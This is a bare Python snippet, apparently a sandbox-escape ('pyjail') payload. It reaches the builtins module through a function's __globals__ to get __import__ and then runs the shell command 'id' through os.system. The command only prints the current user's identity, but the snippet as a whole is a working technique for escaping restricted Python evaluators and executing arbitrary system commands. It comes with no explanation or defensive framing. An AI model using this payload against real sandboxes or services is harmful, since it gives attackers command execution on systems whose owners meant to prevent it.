def f():
    pass
b = f.__globals__["__builtins__"]
b.__import__("os").system("id")
